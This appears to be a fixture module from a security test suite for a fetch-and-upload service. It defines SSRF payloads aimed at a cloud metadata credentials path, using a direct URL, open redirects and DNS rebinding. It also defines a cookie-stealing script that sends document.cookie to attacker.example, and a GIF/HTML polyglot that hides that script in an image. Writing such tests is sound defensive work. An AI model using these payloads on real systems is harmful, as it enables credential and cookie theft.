/** Requests that the steps are made of, as they are written. */
import type { FetchDoor, UploadDoor } from './happenings.ts';
import { CREDENTIALS_PATH, METADATA, PARTNER_HOST, REBINDING_HOST } from './places.ts';

export const fetchBy = (door: FetchDoor, url: string): string =>
  [`POST /fetch/${door}`, 'Content-Type: application/json', '', JSON.stringify({ url })].join('\n');

/** A file, sent with the type and the name that somebody gives to it. */
export const upload = (door: UploadDoor, name: string, type: string, content: string): string =>
  [
    `POST /files/${door}`,
    `Content-Type: ${type}`,
    `Content-Disposition: attachment; filename="${name}"`,
    '',
    content,
  ].join('\n');

export const WHEEL = `https://${PARTNER_HOST}/wheel.gif`;
export const METADATA_URL = `http://${METADATA}${CREDENTIALS_PATH}`;
export const REDIRECT_URL = `http://attacker.example/go?to=${METADATA_URL}`;
/** The partner’s own page sends on to wherever its address says. */
export const PARTNER_REDIRECT_URL = `https://${PARTNER_HOST}/out?to=${METADATA_URL}`;
export const REBINDING_URL = `http://${REBINDING_HOST}${CREDENTIALS_PATH}`;

export const GIF = 'GIF89a a small wheel';
export const PAGE = '<h1>Sale</h1><script>sendTo("attacker.example", document.cookie)</script>';
/** Both at once: it begins as a picture, and has a script in it. */
export const POLYGLOT = `GIF89a ${PAGE}`;
